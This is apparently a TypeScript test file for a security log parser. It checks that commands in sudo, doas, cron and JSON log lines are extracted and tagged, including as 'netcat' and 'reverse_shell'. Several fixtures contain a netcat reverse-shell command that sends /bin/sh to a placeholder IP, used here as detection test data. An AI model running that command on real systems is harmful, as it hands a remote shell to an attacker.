import { describe, expect, it } from 'vitest';
import { createFileMemory, parseLine } from './index.ts';

const CONTEXT = { arrivalMs: Date.parse('2026-11-21T12:00:00Z'), zoneOffsetMinutes: () => 0 };
const sudo = (command: string, pid = 55): string =>
  `Nov 20 10:00:00 web01 sudo[${pid}]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=${command}`;

describe('parseLine() of commands', () => {
  it.each([
    ['sudo', sudo('/usr/bin/nc -e /bin/sh 203.0.113.7 4')],
    [
      'doas',
      'Nov 20 10:00:00 web01 doas: alice ran command nc -e /bin/sh 203.0.113.7 4 as root from /home/alice',
    ],
    ['cron', 'Nov 20 10:00:00 web01 CRON[5]: (root) CMD (nc -e /bin/sh 203.0.113.7 4)'],
    [
      'JSON',
      '{"@timestamp":"2026-11-20T10:00:00Z","action":"command_execution","command":"nc -e /bin/sh 203.0.113.7 4","command_traits":["nothing"]}',
    ],
  ])('says what a command does: %s', (_what, line) => {
    expect(parseLine(line, CONTEXT)).toMatchObject({
      command_programs: ['nc'],
      command_traits: ['netcat', 'reverse_shell'],
    });
  });

  it('says nothing of a command of Windows, nor of an event without one', () => {
    const windows = parseLine(
      '{"@timestamp":"2026-11-20T10:00:00Z","log_type":"windows","action":"command_execution","command":"nc -l 9000"}',
      CONTEXT,
    );
    expect(windows?.command).toBe('nc -l 9000');
    expect(windows?.command_traits).toBeUndefined();
    const login = parseLine(
      'Nov 20 10:00:00 web01 sshd[1]: Failed password for nc from 203.0.113.7 port 4 ssh2',
      CONTEXT,
    );
    expect(login?.command_programs).toBeUndefined();
  });
});

describe('parseSudo() of outcomes', () => {
  it('takes what sudo writes behind a command off it', () => {
    expect(parseLine(sudo('/bin/ls -l /srv ; EXIT=0'), CONTEXT)?.command).toBe('/bin/ls -l /srv');
    expect(parseLine(sudo('/bin/ls ; SIGNAL=KILL ; EXIT=137'), CONTEXT)?.command).toBe('/bin/ls');
    expect(parseLine(sudo('/bin/echo EXIT=0'), CONTEXT)?.command).toBe('/bin/echo EXIT=0');
  });

  it('counts the end of a command as no execution, only when its start stood before it', () => {
    const after = (line: string, before: string): string | undefined => {
      const memory = createFileMemory();
      parseLine(before, { ...CONTEXT, memory });
      return parseLine(line, { ...CONTEXT, memory })?.action;
    };
    const end = sudo('/bin/ls ; EXIT=0');
    expect(after(end, sudo('/bin/ls'))).toBe('sudo_event');
    expect(after(end, sudo('/bin/ls', 56))).toBe('command_execution');
    expect(after(end, sudo('/bin/id'))).toBe('command_execution');
    expect(parseLine(end, CONTEXT)?.action).toBe('command_execution');
  });

  it('reads a line of sudo-rs without a terminal', () => {
    expect(
      parseLine(
        'Nov 20 10:00:00 web01 sudo[55]: alice :  PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update',
        CONTEXT,
      ),
    ).toMatchObject({
      action: 'command_execution',
      username: 'alice',
      working_directory: '/home/alice',
      target_user: 'root',
      command: '/usr/bin/apt update',
    });
  });
});
